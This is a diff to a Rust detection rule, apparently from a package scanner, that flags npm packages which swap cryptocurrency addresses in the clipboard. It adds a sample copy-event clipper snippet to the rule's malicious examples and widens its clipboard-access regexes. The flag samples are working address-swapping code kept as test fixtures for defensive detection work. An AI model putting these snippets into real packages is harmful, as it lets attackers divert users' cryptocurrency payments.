@@ -14,17 +14,19 @@ crate::declare_rule! {
     title: "rewrites cryptocurrency addresses in the clipboard",
     incident: "crypto clipper packages on npm (2023-2025) polling the clipboard every 500 ms",
     case_file: "index.js",
-    flag: ["setInterval(() => { const t = execSync('pbpaste').toString(); if (/^0x[a-fA-F0-9]{40}$/.test(t)) execSync('pbcopy', { input: mine }) }, 500)",
+    flag: ["document.addEventListener('copy', e => { const t = String(document.getSelection()); const o = t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, mine); e.clipboardData.setData('text/plain', o); e.preventDefault(); })",
+           "setInterval(() => { const t = execSync('pbpaste').toString(); if (/^0x[a-fA-F0-9]{40}$/.test(t)) execSync('pbcopy', { input: mine }) }, 500)",
            "setInterval(async () => { const t = await navigator.clipboard.readText(); await navigator.clipboard.writeText(t.replace(re, x)) }, 1000)"],
-    pass: ["export async function copy(t) { await navigator.clipboard.writeText(t) } export async function paste() { return navigator.clipboard.readText() }"],
+    pass: ["document.addEventListener('copy', e => { e.clipboardData.setData('text/plain', String(document.getSelection()).trim()); e.preventDefault(); })",
+           "export async function copy(t) { await navigator.clipboard.writeText(t) } export async function paste() { return navigator.clipboard.readText() }"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
     let read = crate::regex!(
-        r"(?i)pbpaste|xclip\s+-o|xclip[^'\x22`]*-selection[^'\x22`]*-o|xsel\s+(-b\s+)?-o|xsel\s+--output|get-clipboard|readText\(|clipboardy[^\n]{0,40}read|wl-paste"
+        r"(?i)pbpaste|xclip\s+-o|xclip[^'\x22`]*-selection[^'\x22`]*-o|xsel\s+(-b\s+)?-o|xsel\s+--output|get-clipboard|readText\(|clipboardy[^\n]{0,40}read|wl-paste|getSelection\("
     );
     let write = crate::regex!(
-        r"(?i)pbcopy|xclip\s+-i|xclip[^'\x22`]*-selection\s+\w+['\x22`]?\s*[,\]]|xsel\s+(-b\s+)?-i|xsel\s+--input|set-clipboard|\bclip(\.exe)?['\x22`]|writeText\(|clipboardy[^\n]{0,40}write|wl-copy"
+        r"(?i)pbcopy|xclip\s+-i|xclip[^'\x22`]*-selection\s+\w+['\x22`]?\s*[,\]]|xsel\s+(-b\s+)?-i|xsel\s+--input|set-clipboard|\bclip(\.exe)?['\x22`]|writeText\(|clipboardy[^\n]{0,40}write|wl-copy|clipboardData\.setData\("
     );
     for f in code_files(pkg) {
         if is_doc_path(&f.path) {
